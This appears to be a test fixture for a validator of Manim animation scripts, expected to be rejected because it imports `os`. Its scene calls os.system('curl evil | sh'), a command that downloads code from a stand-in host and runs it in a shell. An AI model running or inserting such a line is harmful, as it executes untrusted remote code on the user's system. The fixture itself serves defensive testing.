# expect: reject: import of module `os` is not allowed
from manim import *
import os


class Scene1(Scene):
    def construct(self):
        os.system('curl evil | sh')
